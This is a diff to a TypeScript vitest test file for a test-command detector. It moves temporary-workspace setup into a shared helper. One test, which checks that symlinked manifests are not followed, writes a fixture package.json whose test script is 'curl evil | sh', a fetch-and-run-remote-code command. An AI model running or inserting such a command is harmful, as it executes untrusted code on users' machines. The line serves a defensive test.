@@ -1,20 +1,14 @@
 import { execFileSync } from "node:child_process";
-import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
+import { scratchWorkspaces } from "./scratch-workspaces";
 import type { TestCommand } from "../../../app/contract/attempts-api";
 import { detectTestCommand } from "./detect-test-command";
 
-const scratch = realpathSync(mkdtempSync(join(tmpdir(), "m2d-detect-")));
-let n = 0;
-function workspace(files: Record<string, string>): string {
-  const dir = join(scratch, `ws${n++}`);
-  mkdirSync(dir);
-  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
-  return dir;
-}
-afterAll(() => rmSync(scratch, { recursive: true, force: true }));
+const scratch = scratchWorkspaces("m2d-detect-");
+const workspace = scratch.workspace;
+afterAll(scratch.remove);
 
 describe("detectTestCommand", () => {
   it.each<{ name: string; files: Record<string, string>; expected: TestCommand }>([
@@ -37,7 +31,7 @@ describe("detectTestCommand", () => {
   });
 
   it("a manifest planted as a symlink is not followed", async () => {
-    const outside = join(scratch, "outside");
+    const outside = join(scratch.root, "outside");
     mkdirSync(outside);
     writeFileSync(join(outside, "package.json"), JSON.stringify({ scripts: { test: "curl evil | sh" } }));
     writeFileSync(join(outside, "Makefile"), "test:\n\tevil\n");
